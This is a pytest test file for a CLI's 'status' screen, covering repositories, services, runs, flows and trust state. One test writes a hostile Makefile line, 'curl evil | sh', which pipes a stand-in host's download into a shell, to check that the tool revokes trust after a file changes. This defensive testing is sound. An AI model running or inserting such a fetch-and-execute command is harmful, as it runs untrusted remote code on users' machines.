"""``phoenix status``: one screen, true to the facts, whatever there is."""

import json

import pytest

from phoenix_cli.ecosystem.repositories import all_repositories
from phoenix_cli.ecosystem.trust import give
from tests.homes import THEN, add_repository, add_run, add_service, home_at
from tests.screens import screen

EMPTY = {"items": [], "next": None}


@pytest.fixture
def app(phoenix):
    app = home_at(phoenix.home)
    yield app
    app.state.close()


def test_without_a_home_it_says_how_to_begin_and_makes_none(phoenix):
    assert phoenix("status", "--json").json == {"repositories": EMPTY, "services": EMPTY, "runs": EMPTY, "flows": EMPTY}
    assert phoenix("status").out == ""
    shown = screen(phoenix, "status", env={"NO_COLOR": "1"})
    assert shown.startswith("No repository yet in ") and "Next: phoenix ecosystem import owner/repo" in shown
    assert not phoenix.home.exists()


def test_with_empty_tables(phoenix, app):
    app.state.read("SELECT 1")
    assert phoenix("status", "--json").json["repositories"] == EMPTY
    assert "No repository yet" in screen(phoenix, "status")


def test_repositories_alone(phoenix, app):
    add_repository(app, "click")
    found = phoenix("status", "--json").json
    (one,) = found["repositories"]["items"]
    (listed,) = phoenix("ecosystem", "list", "--json").json["items"]
    assert {**listed, "trust_changed": []} == one
    assert (found["services"], found["runs"]) == (EMPTY, EMPTY)
    shown = screen(phoenix, "status", env={"NO_COLOR": "1"})
    assert shown.splitlines()[0] == f"1 repository, in {phoenix.home}"
    assert "phoenix ecosystem test click" in shown


def test_what_is_wrong_comes_with_its_command(phoenix, app):
    shop = add_repository(app, "shop")
    add_service(
        app, shop, "web", status="failed", reason="exited with 3 five times in 60 s", exit_code=3, ended_at=THEN
    )
    add_service(app, shop, "worker")
    add_run(app, shop, "run_1")
    add_run(
        app, shop, "run_2", status="failed", exit_code=2, reason="exit code 2", started_at="2026-01-02T00:00:00.000Z"
    )
    shown = screen(phoenix, "status", env={"NO_COLOR": "1"})
    assert "1 service failed" in shown and "✗ failed" in shown and "○ stopped" in shown
    assert shown.index("✗ failed  1.2s") < shown.index("✓ passed  1.2s")
    assert "Next: phoenix ecosystem logs shop web" in shown
    found = phoenix("status", "--json", "--runs", 1).json
    assert [run["run_id"] for run in found["runs"]["items"]] == ["run_2"]
    assert {service["service"]: service["status"] for service in found["services"]["items"]} == {
        "web": "failed", "worker": "stopped",
    }  # fmt: skip


def test_a_claim_that_nothing_backs_is_settled_first(phoenix, app):
    """Rows that a killed phoenix, or another boot of the machine, left behind."""
    shop = add_repository(app, "shop")
    dead = {"supervisor_pid": 1, "supervisor_started": "1", "boot_id": "another boot"}
    add_service(app, shop, "web", status="running", tag="t", started_at=THEN, **dead)
    add_run(
        app, shop, "run_1", status="running", exit_code=None, ended_at=None, duration_s=None, pid=1, started="1",
        boot_id="another boot",
    )  # fmt: skip
    found = phoenix("status", "--json").json
    (service,) = found["services"]["items"]
    assert (service["status"], service["reason"]) == ("stopped", "the machine was restarted")
    assert found["runs"]["items"][0]["status"] == "interrupted"
    assert found["repositories"]["items"][0]["service"] == "stopped"


def test_a_trust_that_fell_is_told_with_the_file(phoenix, app, tmp_path):
    (tmp_path / "shop").mkdir()
    makefile = tmp_path / "shop" / "Makefile"
    makefile.write_text("test:\n\ttrue\n")
    add_repository(app, "shop", path=tmp_path / "shop")
    (repository,) = all_repositories(app.state)
    source = {"file": "Makefile", "line": 1, "rule": "make.target"}
    detection = {"components": [{"evidence": [source], "commands": []}], "services": []}
    give(
        state=app.state, events=app.events, clock=app.clock, repository=repository, detection=detection, level="trusted"
    )
    assert phoenix("status", "--json").json["repositories"]["items"][0]["trust_changed"] == []
    makefile.write_text("test:\n\tcurl evil | sh\n")
    (one,) = phoenix("status", "--json").json["repositories"]["items"]
    assert (one["level"], one["trust_changed"]) == ("inspect", ["Makefile"])
    shown = screen(phoenix, "status", env={"NO_COLOR": "1"})
    assert "! shop is not trusted any more: Makefile changed" in shown and "phoenix ecosystem trust shop" in shown


def test_a_pipe_gets_one_line_a_thing_with_its_kind(phoenix, app):
    shop = add_repository(app, "shop")
    add_service(app, shop, "web")
    add_run(app, shop, "run_1")
    rows = [line.split("\t") for line in phoenix("status").out.splitlines()]
    assert [row[0] for row in rows] == ["repository", "service", "run"]
    assert rows[2][1:6] == ["run_1", "shop", "make:test", "passed", "0"]


def test_forty_repositories_are_still_one_screen(phoenix, app):
    for number in range(40):
        repo = add_repository(app, f"repo{number:02}")
        add_run(app, repo, f"run_{number:02}", reason="a long reason that goes on and on " * 4, status="failed")
    shown = screen(phoenix, "status", env={"NO_COLOR": "1"}).splitlines()
    assert max(map(len, shown[1:])) <= 80  # the first line ends with the home, a path that is never cut
    assert len(shown) <= 24


def test_json_on_a_terminal_is_one_document(phoenix, app):
    add_repository(app, "shop")
    assert json.loads(screen(phoenix, "status", "--json"))["repositories"]["items"]


def test_a_flow_that_can_be_gone_on_with_is_shown_with_the_command(phoenix, app):
    with app.state.write() as connection:
        for number, status in ((1, "running"), (2, "succeeded")):
            connection.execute(
                "INSERT INTO flow_runs (number, id, flow, file, dir, source, flow_hash, inputs, options, status, started_at)"
                " VALUES (?, ?, 'release', 'f', '/', '', '', '{}', '{}', ?, ?)",
                (number, f"run_{number}", status, THEN),
            )
    shown = screen(phoenix, "status", "--runs", 1, env={"NO_COLOR": "1"})
    assert "run_1" in shown and "interrupted" in shown and "succeeded" in shown
    assert "Next: phoenix flow resume run_1" in shown
    assert [one["status"] for one in phoenix("status", "--json").json["flows"]["items"]] == ["succeeded", "interrupted"]
